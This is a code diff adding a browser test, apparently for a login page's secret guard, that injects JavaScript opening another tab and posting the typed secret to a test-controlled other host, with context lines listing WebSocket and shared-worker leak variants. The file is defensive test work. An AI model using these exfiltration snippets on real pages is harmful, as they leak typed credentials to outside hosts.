@@ -104,6 +104,32 @@ def test_a_page_with_a_typed_secret_does_not_lead_to_another_host(
     assert other_host.requests == []
 
 
+OPENERS = {
+    "a tab that is led on": "open('/csologin/login.jsf')",
+    "a blank tab that is led on": "open('')",
+}
+
+
+@pytest.mark.parametrize("opener", OPENERS.values(), ids=OPENERS.keys())
+def test_another_tab_of_the_court_does_not_end_the_guard(
+    opener: str, window: Window, account: Account, other_host: OtherHost
+) -> None:
+    lead_on = f"""const tab = {opener};
+    let isLedOn = false;
+    const timer = setInterval(() => {{
+        if (tab.document.readyState !== 'complete') return;
+        if (!isLedOn) {{ isLedOn = true; tab.location = '/csologin/login.jsf?again'; }}
+        if (tab.location.search !== '?again') return;
+        clearInterval(timer);
+        fetch('{other_host.address}', {{method: 'POST', mode: 'no-cors', body: secret}});
+    }}, 50);"""
+    listen(window, lead_on)
+    with window.page.context.expect_event("requestfailed"):
+        fill_in(window, account)
+    assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
+    assert other_host.requests == []
+
+
 UNSEEN = {
     "a WebSocket": "new WebSocket(there.replace('http', 'ws') + '/?' + encodeURIComponent(secret))",
     "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob("
